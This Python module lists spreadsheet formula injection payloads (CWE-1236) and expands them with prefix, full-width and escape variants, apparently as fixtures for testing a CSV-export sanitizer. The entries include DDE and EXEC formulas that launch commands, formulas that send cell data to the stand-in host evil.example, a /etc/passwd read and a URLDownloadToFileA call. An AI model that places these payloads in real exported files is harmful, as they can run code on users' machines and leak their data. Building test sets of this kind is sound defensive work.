"""What people have put into cells to make a spreadsheet program run it (CWE-1236)."""

CALLS = (
    "=1+1", "=A1", "=cmd|'/C calc'!A0", "=cmd|' /C notepad'!'A1'",
    '=DDE("cmd";"/C calc";"x")',
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=WEBSERVICE(\"http://evil.example\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=IMPORTDATA(\"http://evil.example/x.csv\")",
    "=IMAGE(\"http://evil.example/x.png\")", "=SUM(1+1)*cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\x'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "='file:///etc/passwd'#$passwd.A1",
    '=EXEC("calc")', '=INFO("directory")',
    "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0)",
)  # fmt: skip
BEFORE = ("", "+", "-", "@", "\t", "\r", "\n", " ", "\u00a0", "\ufeff", "\u200b", "'", '"', "\x00",
          "%", ";", ",")  # fmt: skip
FULL_WIDTH = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "﹢1", "﹣1", "﹦1", "﹫SUM(1)", "⁼1", "﹡1")
OTHER = (
    "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|'/C calc'!A0",
    "</t></is></c><c r=\"A1\"><f>1+1</f></c>", "]]><f>1+1</f>", "&#61;1+1", "_x003D_1+1",
    "_x0009_=1",
    "{=1+1}", "TRUE", "1E5", "2024-05-29", "#REF!", "0123", "R1C1", "[1]Sheet1!A1", "\u202e=1+1",
    "\ud800=1",
)  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys((*(mark + call for call in CALLS for mark in BEFORE), *FULL_WIDTH, *OTHER))
)
